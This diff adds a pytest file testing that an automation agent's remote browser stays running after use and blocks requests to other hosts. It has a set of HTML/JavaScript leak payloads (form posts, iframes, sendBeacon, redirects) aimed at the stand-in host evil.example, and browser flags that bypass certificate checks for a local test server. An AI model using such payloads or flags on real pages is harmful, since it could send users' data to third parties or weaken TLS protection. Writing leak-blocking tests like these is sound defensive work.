@@ -1,0 +1,127 @@
+"""A browser on another machine: visits go there, it is let go and not ended, and its guard is no weaker than our own browser's."""
+
+from __future__ import annotations
+
+from collections.abc import AsyncIterator
+from contextlib import suppress
+from dataclasses import dataclass, field, replace
+from pathlib import Path
+
+import pytest
+from aiohttp import web
+from playwright.async_api import Error
+
+from agent.domain.authorization import State
+from agent.settings.model import BrowserSettings, Settings
+from agent.visits.browser_pool import BrowserPool, browser_options
+from fixtures.stand_in.generate import one_account
+from fixtures.stand_in.site.certificate import make_identity
+from fixtures.stand_in.world import StandIn
+from flows.browser.launch import BrowserOptions, open_browser, process_of
+from flows.errors import BrowserMissingError, ForeignHostError
+from flows.visit.open_visit import open_visit
+from tests.support.rehearsal import rehearsing
+from tests.support.servers.remote_browser import KINDS, remote_browser
+
+HOST, EVIL = "https://sellercentral.amazon.com", "https://evil.example"
+
+
+def flags(rules: str, pins: list[str]) -> list[str]:
+    return [f"--host-resolver-rules={rules}", f"--ignore-certificate-errors-spki-list={','.join(pins)}"]
+
+
+@pytest.mark.sampled(1)
+@pytest.mark.parametrize("kind", KINDS)
+async def test_visits_go_there_and_leave_it_running(kind: str, unused_tcp_port: int, tmp_path: Path) -> None:
+    async with remote_browser(kind, tmp_path, port=unused_tcp_port) as remote:
+        options = browser_options(Settings(browser=BrowserSettings(endpoint=remote.endpoint, executable=Path("/no/such/browser"))))
+        pool = BrowserPool(options=options, replace_after=10)
+        for _ in range(2):
+            async with pool.browser() as browser, open_visit(browser, options=options) as visit:
+                await visit.page.goto("data:text/html,<title>far away</title>")
+                assert await visit.page.title() == "far away"
+                assert process_of(browser) is None
+        await pool.close()
+        assert remote.process.returncode is None, "a remote browser is let go, not ended"
+
+
+async def test_one_that_is_not_there_is_one_clear_line(unused_tcp_port: int) -> None:
+    for endpoint in (f"http://127.0.0.1:{unused_tcp_port}", f"ws://127.0.0.1:{unused_tcp_port}/browser"):
+        pool = BrowserPool(options=BrowserOptions(endpoint=endpoint), replace_after=10)
+        with pytest.raises(BrowserMissingError, match=f"127.0.0.1:{unused_tcp_port}") as caught:
+            async with pool.browser():
+                pass
+        assert "\n" not in str(caught.value)
+
+
+@pytest.mark.sampled(1)
+@pytest.mark.parametrize("kind", KINDS)
+async def test_an_invitation_is_accepted_in_it(kind: str, unused_tcp_port: int, tmp_path: Path) -> None:
+    async with StandIn(one_account(3)) as stand_in:
+        told = stand_in.description()
+        given = flags(told["host_resolver_rules"], told["spki"])
+        async with remote_browser(kind, tmp_path, port=unused_tcp_port, arguments=given) as remote:
+            with rehearsing(stand_in, tmp_path) as ready:
+                browser = ready.settings.browser.model_copy(update={"endpoint": remote.endpoint})
+                rehearsal = replace(ready, settings=ready.settings.model_copy(update={"browser": browser}))
+                rehearsal.register()
+                account = await rehearsal.accept()
+        assert account.authorization in (State.AWAITING_PERMISSIONS, State.AWAITING_CONFIRMATION)
+        assert list(stand_in.realm.journal.summary()["acceptances"].values()) == [1]
+        assert stand_in.realm.journal.of("danger.", "code.reused", "password.rejected") == []
+
+
+LEAKS = {
+    "a redirect": "<script>location='/away'</script>",
+    "a redirected fetch": "<script>fetch('/away',{method:'POST',mode:'no-cors',body:'1'})</script>",
+    "a redirected form": "<form id=f method=post action='/away'><input name=p value=1></form><script>f.submit()</script>",
+    "a form": f"<form id=f method=post action='{EVIL}/form'><input name=p value=1></form><script>f.submit()</script>",
+    "a frame": f"<iframe src='{EVIL}/frame'></iframe>",
+    "a redirected frame": "<iframe src='/away'></iframe>",
+    "a beacon": f"<script>navigator.sendBeacon('{EVIL}/beacon','1')</script>",
+}
+
+
+@dataclass(slots=True)
+class Site:
+    """Serves a page that leaks; `evil.example` is the same server, so what does not arrive was stopped."""
+
+    page: str = ""
+    asked: list[str] = field(default_factory=list)
+
+    async def answer(self, request: web.BaseRequest) -> web.StreamResponse:
+        self.asked.append(f"{request.method} {request.host}{request.path}")
+        if request.path == "/away":
+            raise web.HTTPTemporaryRedirect(f"{EVIL}/landed")
+        return web.Response(text=self.page, content_type="text/html")
+
+
+@pytest.fixture
+async def site() -> AsyncIterator[tuple[Site, list[str]]]:
+    site, identity = Site(), make_identity(["*.amazon.com", "evil.example"])
+    runner = web.ServerRunner(web.Server(site.answer))
+    await runner.setup()
+    await web.TCPSite(runner, "127.0.0.1", 0, ssl_context=identity.context).start()
+    yield site, flags(f"MAP * 127.0.0.1:{runner.addresses[0][1]}", [identity.pin])
+    await runner.cleanup()
+
+
+@pytest.mark.parametrize("kind", KINDS)
+async def test_nothing_goes_to_another_host_from_it(kind: str, site: tuple[Site, list[str]], unused_tcp_port: int, tmp_path: Path) -> None:
+    served, given = site
+    async with remote_browser(kind, tmp_path, port=unused_tcp_port, arguments=given) as remote:
+        options = BrowserOptions(endpoint=remote.endpoint)
+        async with open_browser(options) as browser:
+            for name, page in LEAKS.items():
+                served.page = page
+                async with open_visit(browser, options=options) as visit:
+                    with suppress(Error):  # the page may be led away while it loads
+                        await visit.page.goto(f"{HOST}/leak", wait_until="commit")
+                    for _ in range(30):
+                        if visit.guard.blocked:
+                            break
+                        with suppress(Error):
+                            await visit.page.evaluate("() => new Promise(done => setTimeout(done, 100))")
+                    with pytest.raises(ForeignHostError):
+                        visit.guard.check()
+                assert [line for line in served.asked if "evil.example" in line] == [], name
